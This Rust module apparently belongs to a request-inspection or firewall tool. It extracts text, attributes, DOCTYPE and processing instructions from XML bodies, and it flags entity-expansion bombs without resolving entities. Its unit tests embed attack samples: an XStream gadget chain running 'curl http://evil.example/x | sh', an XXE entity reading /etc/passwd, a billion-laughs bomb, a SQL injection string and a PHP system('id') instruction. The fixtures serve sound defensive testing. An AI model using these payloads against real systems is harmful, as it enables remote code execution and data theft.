//! XML string extraction (SOAP, XML-RPC, XStream and other XML bodies).
//!
//! # Why
//!
//! XML carries payloads in three places a raw-body pattern handles badly: character data split
//! into text, references and CDATA sections (`/bin/<![CDATA[sh]]>`, `&#x2f;bin&#x2f;sh`),
//! attribute values with their own escaping, and the DOCTYPE, where external entities (XXE)
//! and entity-expansion bombs ("billion laughs") live. This module tokenises the body with
//! [`quick_xml`] and hands the engine:
//!
//! * [`Target::XmlText`]: the character data of an element, with text, references and CDATA
//!   that follow each other (comments in between are skipped, as a DOM's `textContent` would)
//!   joined into one value; name = the enclosing element's qualified name (empty outside the
//!   root). Whitespace-only runs are not emitted.
//! * [`Target::XmlAttribute`]: every attribute value; name = the attribute's qualified name.
//! * [`Target::XmlDoctype`]: the whole `<!DOCTYPE …>` declaration as written, internal subset
//!   included; name = empty.
//! * [`Target::XmlPi`]: every processing instruction's content (the `<?xml …?>` declaration is
//!   not one); name = the PI target.
//!
//! Text and attribute values are unescaped for the five predefined entities (`&lt;` `&gt;`
//! `&amp;` `&apos;` `&quot;`) and for numeric character references. Any other entity reference
//! is left exactly as written (`&xxe;`): entities are **never** resolved or expanded, so
//! neither an external entity nor an expansion bomb can make this code read a file or grow
//! memory. Instead the DOCTYPE is scanned and [`Anomaly::XmlEntityExpansion`] is reported when
//! an entity's replacement text references another entity, or more than
//! [`MAX_ENTITY_DECLS`] entities are declared.
//!
//! # Cost and bounds
//!
//! quick-xml reads the body in place without building a tree; the extractor keeps only the
//! stack of open element names (bounded by [`ExtractLimits::max_depth`], deeper input is
//! [`ExtractError::DepthExceeded`]) and one text buffer that is reused. Time is linear in the
//! body. Malformed XML (mismatched or unclosed tags, bad attributes, unterminated markup) stops
//! the walk with [`ExtractError::Xml`]; what was emitted before stands. A lone `&` is accepted
//! as literal text, as lenient parsers do.

use picket_signatures::{Anomaly, Target};
use quick_xml::events::{BytesStart, Event};
use quick_xml::Reader;

use crate::fields::{ExtractError, ExtractLimits, FieldSink};

/// More entity declarations than this in one DOCTYPE is reported as an expansion attempt.
pub const MAX_ENTITY_DECLS: usize = 16;

/// Walks `body` as an XML document and hands its text, attribute values, DOCTYPE and
/// processing instructions to `sink` (see the module documentation).
pub fn extract(
    body: &[u8],
    limits: &ExtractLimits,
    sink: &mut dyn FieldSink,
) -> Result<(), ExtractError> {
    let mut reader = Reader::from_reader(body);
    let config = reader.config_mut();
    config.allow_dangling_amp = true;
    config.check_end_names = true;
    config.expand_empty_elements = false;
    config.trim_text(false);

    let mut out = Emitter {
        sink,
        limits,
        fields: 0,
    };
    let mut stack: Vec<Vec<u8>> = Vec::new();
    let mut text: Vec<u8> = Vec::new();
    let mut attr_buf: Vec<u8> = Vec::new();

    loop {
        let start = usize::try_from(reader.buffer_position()).unwrap_or(usize::MAX);
        let event = match reader.read_event() {
            Ok(e) => e,
            Err(e) => {
                flush_text(&mut text, &stack, &mut out)?;
                return Err(ExtractError::Xml {
                    offset: usize::try_from(reader.error_position()).unwrap_or(usize::MAX),
                    reason: e.to_string(),
                });
            }
        };
        match event {
            Event::Text(t) => text.extend_from_slice(&t),
            Event::CData(c) => text.extend_from_slice(&c),
            Event::GeneralRef(r) => push_reference(&r, &mut text),
            Event::Comment(_) => {}
            Event::Start(e) => {
                flush_text(&mut text, &stack, &mut out)?;
                if stack.len() >= limits.max_depth {
                    return Err(ExtractError::DepthExceeded {
                        limit: limits.max_depth,
                    });
                }
                attributes(&e, &mut attr_buf, &mut out, body, &reader)?;
                stack.push(e.name().as_ref().to_vec());
            }
            Event::Empty(e) => {
                flush_text(&mut text, &stack, &mut out)?;
                attributes(&e, &mut attr_buf, &mut out, body, &reader)?;
            }
            Event::End(_) => {
                flush_text(&mut text, &stack, &mut out)?;
                stack.pop();
            }
            Event::DocType(d) => {
                flush_text(&mut text, &stack, &mut out)?;
                let end = usize::try_from(reader.buffer_position()).unwrap_or(usize::MAX);
                let whole = body.get(start..end).unwrap_or(&d);
                if entity_expansion_suspected(whole) {
                    out.sink.anomaly(Anomaly::XmlEntityExpansion);
                }
                out.emit(Target::XmlDoctype, b"", whole)?;
            }
            Event::PI(pi) => {
                flush_text(&mut text, &stack, &mut out)?;
                out.emit(Target::XmlPi, pi.target(), &pi)?;
            }
            Event::Decl(_) => flush_text(&mut text, &stack, &mut out)?,
            Event::Eof => {
                flush_text(&mut text, &stack, &mut out)?;
                if !stack.is_empty() {
                    return Err(ExtractError::Xml {
                        offset: body.len(),
                        reason: "unclosed element at end of document".into(),
                    });
                }
                return Ok(());
            }
        }
    }
}

struct Emitter<'s> {
    sink: &'s mut dyn FieldSink,
    limits: &'s ExtractLimits,
    fields: usize,
}

impl Emitter<'_> {
    fn emit(&mut self, target: Target, name: &[u8], value: &[u8]) -> Result<(), ExtractError> {
        if self.fields >= self.limits.max_fields {
            return Err(ExtractError::TooManyFields {
                limit: self.limits.max_fields,
            });
        }
        self.fields += 1;
        self.sink.field(target, name, value);
        Ok(())
    }
}

fn flush_text(
    text: &mut Vec<u8>,
    stack: &[Vec<u8>],
    out: &mut Emitter<'_>,
) -> Result<(), ExtractError> {
    if text
        .iter()
        .all(|b| matches!(b, b' ' | b'\t' | b'\r' | b'\n'))
    {
        text.clear();
        return Ok(());
    }
    let name = stack.last().map(Vec::as_slice).unwrap_or_default();
    let r = out.emit(Target::XmlText, name, text);
    text.clear();
    r
}

fn attributes(
    e: &BytesStart<'_>,
    buf: &mut Vec<u8>,
    out: &mut Emitter<'_>,
    body: &[u8],
    reader: &Reader<&[u8]>,
) -> Result<(), ExtractError> {
    let mut attrs = e.attributes();
    // Duplicate attributes are the upstream parser's problem; inspect them all.
    attrs.with_checks(false);
    for attr in attrs {
        let attr = attr.map_err(|err| ExtractError::Xml {
            offset: usize::try_from(reader.buffer_position())
                .unwrap_or(usize::MAX)
                .min(body.len()),
            reason: err.to_string(),
        })?;
        buf.clear();
        unescape_into(&attr.value, buf);
        out.emit(Target::XmlAttribute, attr.key.as_ref(), buf)?;
    }
    Ok(())
}

/// Appends the value of a general reference (`r` is the text between `&` and `;`): a
/// predefined entity or a character reference is resolved, anything else is kept as written.
fn push_reference(r: &[u8], out: &mut Vec<u8>) {
    match resolve(r) {
        Some(c) => {
            let mut tmp = [0u8; 4];
            out.extend_from_slice(c.encode_utf8(&mut tmp).as_bytes());
        }
        None => {
            out.push(b'&');
            out.extend_from_slice(r);
            out.push(b';');
        }
    }
}

fn resolve(name: &[u8]) -> Option<char> {
    match name {
        b"lt" => Some('<'),
        b"gt" => Some('>'),
        b"amp" => Some('&'),
        b"apos" => Some('\''),
        b"quot" => Some('"'),
        [b'#', b'x' | b'X', hex @ ..] => number(hex, 16),
        [b'#', dec @ ..] => number(dec, 10),
        _ => None,
    }
}

fn number(digits: &[u8], radix: u32) -> Option<char> {
    if digits.is_empty() || digits.len() > 8 {
        return None;
    }
    let s = std::str::from_utf8(digits).ok()?;
    if !s.bytes().all(|b| b.is_ascii_hexdigit()) {
        return None;
    }
    let n = u32::from_str_radix(s, radix).ok()?;
    // `&#0;` is not a legal XML character; keep it as written rather than inventing a NUL.
    if n == 0 {
        return None;
    }
    char::from_u32(n)
}

/// Unescapes an attribute value: `&name;` resolved by [`resolve`] or kept as written; a `&`
/// without a `;` within a short distance is literal.
pub(crate) fn unescape_into(raw: &[u8], out: &mut Vec<u8>) {
    let mut rest = raw;
    while let Some(amp) = memchr::memchr(b'&', rest) {
        out.extend_from_slice(rest.get(..amp).unwrap_or_default());
        let after = rest.get(amp + 1..).unwrap_or_default();
        let semi = after.iter().take(32).position(|&b| b == b';' || b == b'&');
        match semi {
            Some(i) if after.get(i) == Some(&b';') => {
                let name = after.get(..i).unwrap_or_default();
                push_reference(name, out);
                rest = after.get(i + 1..).unwrap_or_default();
            }
            _ => {
                out.push(b'&');
                rest = after;
            }
        }
    }
    out.extend_from_slice(rest);
}

/// Scans a DOCTYPE for `<!ENTITY` declarations: more than [`MAX_ENTITY_DECLS`], or one whose
/// literal replacement text references another (non-predefined) general or parameter entity,
/// is the shape of an expansion bomb.
fn entity_expansion_suspected(doctype: &[u8]) -> bool {
    let mut count = 0usize;
    for pos in memchr::memmem::find_iter(doctype, b"<!ENTITY") {
        count += 1;
        if count > MAX_ENTITY_DECLS {
            return true;
        }
        let decl = doctype.get(pos + 8..).unwrap_or_default();
        if let Some(value) = entity_literal(decl) {
            if references_entity(value) {
                return true;
            }
        }
    }
    false
}

/// The quoted replacement text of an entity declaration (`[%] name "text"`), if it has one.
fn entity_literal(decl: &[u8]) -> Option<&[u8]> {
    let mut i = skip_ws(decl, 0);
    if decl.get(i) == Some(&b'%') {
        i = skip_ws(decl, i + 1);
    }
    // name
    while decl
        .get(i)
        .is_some_and(|b| !b.is_ascii_whitespace() && !matches!(b, b'"' | b'\'' | b'>'))
    {
        i += 1;
    }
    i = skip_ws(decl, i);
    let quote = *decl.get(i).filter(|q| matches!(q, b'"' | b'\''))?;
    let body = decl.get(i + 1..)?;
    let end = memchr::memchr(quote, body).unwrap_or(body.len());
    body.get(..end)
}

fn skip_ws(s: &[u8], mut i: usize) -> usize {
    while s.get(i).is_some_and(u8::is_ascii_whitespace) {
        i += 1;
    }
    i
}

/// Whether entity replacement text contains `&name;` (other than a predefined entity or a
/// character reference) or `%name;`.
fn references_entity(value: &[u8]) -> bool {
    let mut i = 0;
    while let Some(&b) = value.get(i) {
        i += 1;
        if b != b'&' && b != b'%' {
            continue;
        }
        let rest = value.get(i..).unwrap_or_default();
        let Some(semi) = rest.iter().take(64).position(|&c| c == b';') else {
            continue;
        };
        let name = rest.get(..semi).unwrap_or_default();
        let valid_name = name
            .first()
            .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_' || *c == b':' || *c >= 0x80)
            && name
                .iter()
                .all(|c| c.is_ascii_alphanumeric() || b"_:.-".contains(c) || *c >= 0x80);
        if !valid_name {
            continue;
        }
        if b == b'%' || !matches!(name, b"lt" | b"gt" | b"amp" | b"apos" | b"quot") {
            return true;
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Default)]
    struct Collect {
        fields: Vec<(Target, String, String)>,
        anomalies: Vec<Anomaly>,
    }

    impl FieldSink for Collect {
        fn field(&mut self, t: Target, n: &[u8], v: &[u8]) {
            self.fields.push((
                t,
                String::from_utf8_lossy(n).into_owned(),
                String::from_utf8_lossy(v).into_owned(),
            ));
        }
        fn anomaly(&mut self, a: Anomaly) {
            self.anomalies.push(a);
        }
    }

    fn run(body: &str) -> (Collect, Result<(), ExtractError>) {
        run_with(body, &ExtractLimits::default())
    }

    fn run_with(body: &str, limits: &ExtractLimits) -> (Collect, Result<(), ExtractError>) {
        let mut c = Collect::default();
        let r = extract(body.as_bytes(), limits, &mut c);
        (c, r)
    }

    fn has(c: &Collect, t: Target, n: &str, v: &str) -> bool {
        c.fields
            .iter()
            .any(|(ft, fn_, fv)| *ft == t && fn_ == n && fv == v)
    }

    #[test]
    fn soap_envelope() {
        let body = r#"<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:ws="http://ws.example/">
  <soapenv:Header/>
  <soapenv:Body>
    <ws:runReport>
      <ws:name>q1 &amp; q2</ws:name>
      <ws:filter><![CDATA[' OR 1=1 --]]></ws:filter>
    </ws:runReport>
  </soapenv:Body>
</soapenv:Envelope>"#;
        let (c, r) = run(body);
        r.unwrap();
        assert!(has(&c, Target::XmlText, "ws:name", "q1 & q2"));
        assert!(has(&c, Target::XmlText, "ws:filter", "' OR 1=1 --"));
        assert!(has(
            &c,
            Target::XmlAttribute,
            "xmlns:soapenv",
            "http://schemas.xmlsoap.org/soap/envelope/"
        ));
        assert_eq!(
            c.fields.iter().filter(|f| f.0 == Target::XmlText).count(),
            2,
            "{:?}",
            c.fields
        );
        assert!(c.anomalies.is_empty());
    }

    #[test]
    fn xstream_payload() {
        let body = r#"<map>
  <entry>
    <jdk.nashorn.internal.objects.NativeString>
      <flags>0</flags>
      <value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">
        <dataHandler>
          <dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">
            <is class="javax.crypto.CipherInputStream">
              <cipher class="javax.crypto.NullCipher">
                <serviceIterator class="javax.imageio.spi.FilterIterator">
                  <iter class="javax.imageio.spi.FilterIterator">
                    <iter class="java.util.Collections$EmptyIterator"/>
                    <next class="java.lang.ProcessBuilder">
                      <command>
                        <string>/bin/sh</string>
                        <string>-c</string>
                        <string>curl http://evil.example/x | sh</string>
                      </command>
                      <redirectErrorStream>false</redirectErrorStream>
                    </next>
                  </iter>
                  <filter class="javax.imageio.ImageIO$ContainsFilter">
                    <method><class>java.lang.ProcessBuilder</class><name>start</name></method>
                  </filter>
                </serviceIterator>
              </cipher>
            </is>
          </dataSource>
        </dataHandler>
      </value>
    </jdk.nashorn.internal.objects.NativeString>
    <jdk.nashorn.internal.objects.NativeString reference="../jdk.nashorn.internal.objects.NativeString"/>
  </entry>
</map>"#;
        let (c, r) = run(body);
        r.unwrap();
        assert!(has(&c, Target::XmlText, "string", "/bin/sh"));
        assert!(has(&c, Target::XmlText, "string", "-c"));
        assert!(has(
            &c,
            Target::XmlText,
            "string",
            "curl http://evil.example/x | sh"
        ));
        assert!(has(
            &c,
            Target::XmlText,
            "class",
            "java.lang.ProcessBuilder"
        ));
        assert!(has(
            &c,
            Target::XmlAttribute,
            "class",
            "java.lang.ProcessBuilder"
        ));
    }

    #[test]
    fn references_cdata_and_comments_join() {
        let (c, r) = run("<a>&#x2f;bin<!-- x -->&#47;<![CDATA[sh]]> &lt;&unknown;&#0;</a>");
        r.unwrap();
        assert_eq!(
            c.fields,
            vec![(Target::XmlText, "a".into(), "/bin/sh <&unknown;&#0;".into())]
        );
    }

    #[test]
    fn attribute_unescaping() {
        let (c, r) = run(r#"<a href="&#x2F;bin&#x2f;sh &amp;&amp; &xxe; a&b &quot;q&apos;"/>"#);
        r.unwrap();
        assert_eq!(
            c.fields,
            vec![(
                Target::XmlAttribute,
                "href".into(),
                "/bin/sh && &xxe; a&b \"q'".into()
            )]
        );
    }

    #[test]
    fn doctype_and_xxe_not_resolved() {
        let body = r#"<?xml version="1.0"?>
<!DOCTYPE foo [ <!ELEMENT foo ANY >
<!ENTITY xxe SYSTEM "file:///etc/passwd" >]>
<foo>&xxe;</foo>"#;
        let (c, r) = run(body);
        r.unwrap();
        assert!(c.fields.iter().any(|(t, _, v)| *t == Target::XmlDoctype
            && v.starts_with("<!DOCTYPE foo [")
            && v.contains("file:///etc/passwd")
            && v.ends_with("]>")));
        assert!(has(&c, Target::XmlText, "foo", "&xxe;"));
        assert!(c.anomalies.is_empty());
    }

    #[test]
    fn billion_laughs_is_flagged_not_expanded() {
        let body = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<lolz>&lol2;</lolz>"#;
        let (c, r) = run(body);
        r.unwrap();
        assert_eq!(c.anomalies, vec![Anomaly::XmlEntityExpansion]);
        assert!(has(&c, Target::XmlText, "lolz", "&lol2;"));
    }

    #[test]
    fn many_entities_and_parameter_entities_flagged() {
        let mut decls = String::new();
        for i in 0..17 {
            decls.push_str(&format!("<!ENTITY e{i} \"x\">"));
        }
        let (c, _) = run(&format!("<!DOCTYPE d [{decls}]><d/>"));
        assert_eq!(c.anomalies, vec![Anomaly::XmlEntityExpansion]);

        let (c, _) = run(r#"<!DOCTYPE d [<!ENTITY % p "x"><!ENTITY % q "%p;%p;">]><d/>"#);
        assert_eq!(c.anomalies, vec![Anomaly::XmlEntityExpansion]);

        let (c, _) = run(r#"<!DOCTYPE d [<!ENTITY a "&lt;&#38;b">]><d/>"#);
        assert!(c.anomalies.is_empty());
    }

    #[test]
    fn processing_instructions() {
        let (c, r) = run(r#"<?xml version="1.0"?><?php system('id'); ?><a/>"#);
        r.unwrap();
        assert_eq!(
            c.fields,
            vec![(Target::XmlPi, "php".into(), "php system('id'); ".into())]
        );
    }

    #[test]
    fn malformed() {
        for bad in [
            "<a><b></a>",
            "<a>",
            "</a>",
            "<a b=c/>",
            "<a><!-- x",
            "<!DOCTYPE a [",
            "<a>x</a",
        ] {
            let (_, r) = run(bad);
            assert!(matches!(r, Err(ExtractError::Xml { .. })), "{bad}: {r:?}");
        }
        // Fields before the error stand.
        let (c, r) = run("<a k=\"v\">text<b></c>");
        assert!(r.is_err());
        assert!(has(&c, Target::XmlAttribute, "k", "v"));
        assert!(has(&c, Target::XmlText, "a", "text"));
    }

    #[test]
    fn depth_and_field_limits() {
        let limits = ExtractLimits {
            max_depth: 3,
            max_fields: 2,
        };
        let (_, r) = run_with("<a><b><c></c></b></a>", &limits);
        assert_eq!(r, Ok(()));
        let (_, r) = run_with("<a><b><c><d/><d></d></c></b></a>", &limits);
        assert_eq!(r, Err(ExtractError::DepthExceeded { limit: 3 }));
        let (c, r) = run_with("<a x='1' y='2' z='3'/>", &limits);
        assert_eq!(r, Err(ExtractError::TooManyFields { limit: 2 }));
        assert_eq!(c.fields.len(), 2);
        let deep = "<a>".repeat(100_000);
        let (_, r) = run(&deep);
        assert_eq!(r, Err(ExtractError::DepthExceeded { limit: 64 }));
    }

    #[test]
    fn never_panics_on_junk() {
        for junk in [
            &b"\xff\xfe<\x00a\x00>"[..],
            b"<",
            b"<?",
            b"<!",
            b"<![CDATA[",
            b"&",
            b"&#xFFFFFFFFFF;",
            b"<a \xff=\"\xff\">&#xD800;</a>",
            b"<!DOCTYPE a [<!ENTITY",
            b"<!DOCTYPE a [<!ENTITY % ",
        ] {
            let mut c = Collect::default();
            let _ = extract(junk, &ExtractLimits::default(), &mut c);
        }
    }
}
